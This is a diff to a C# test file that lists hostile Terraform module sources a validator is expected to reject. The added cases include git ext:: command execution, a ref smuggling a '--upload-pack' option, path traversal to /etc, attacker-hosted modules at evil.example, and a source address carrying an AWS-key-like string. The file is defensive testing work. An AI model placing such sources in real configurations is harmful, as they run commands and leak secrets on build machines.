@@ -91,7 +91,11 @@ internal static class HostileCode
         Module("a module whose tag was moved", "git::http://127.0.0.1:@ATTACKER@/m.git?ref=v1.0.0"),
         Module("a module by ext::", "git::ext::sh -c touch% @OWNED@/ext"),
         Module("a module at an absolute path", "/etc"),
-        Module("a module outside the repository", "../../../../../etc"),
+        Module("a module outside the repository", "../../../../../etc", "a module's path must stay in its repository"),
+        Module("a module of the attacker's in the public registry", "evil/m/aws", "not on the list of those that may be fetched"),
+        Module("a module of the attacker's by git", "git::https://evil.example/m.git?ref=0123456789012345678901234567890123456789", "not on the list of those that may be fetched"),
+        Module("a module that carries data in its address", "github.com/evil/AKIA0000000000000000", "not on the list of those that may be fetched"),
+        Module("a module whose ref is an option of git's", "git::https://github.com/acme/m.git?ref=--upload-pack=touch", "none that is fetched here"),
         Code("a module that is a link", Layer.Code, "holds no terraform code in this tree", "module \"m\" {\n  source = \"./m\"\n}\n", ("m@", "/etc")),
         Code("a module within itself", Layer.Code, "a module must not include itself", "module \"m\" {\n  source = \"./m\"\n}\n", ("m/main.tf", "module \"n\" {\n  source = \"../n\"\n}\n"), ("n/main.tf", "module \"m\" {\n  source = \"../m\"\n}\n")),
         Code("a provider nobody allowed", Layer.Code, "the provider is not on the list", "terraform {\n  required_providers {\n    x = { source = \"evil/x\" }\n  }\n}\nresource \"x_thing\" \"a\" {}\n"),
@@ -119,7 +123,7 @@ internal static class HostileCode
     private static Hostile Local(string name, string says, string expression, params (string Path, string Text)[] more) =>
         Code(name, Layer.Code, says, $"locals {{\n  x = {expression}\n}}\n{Harmless}", more);
 
-    private static Hostile Module(string name, string source) => Code(name, Layer.Code, "a module's source must be a folder of this repository", $"module \"m\" {{\n  source = \"{source}\"\n}}\n");
+    private static Hostile Module(string name, string source, string says = "none that is fetched here") => Code(name, Layer.Code, says, $"module \"m\" {{\n  source = \"{source}\"\n}}\n");
 
     private static string Aws(string arguments) => $"provider \"aws\" {{\n  {arguments}\n}}\ndata \"aws_s3_bucket\" \"b\" {{\n  bucket = \"b\"\n}}\n";
 }
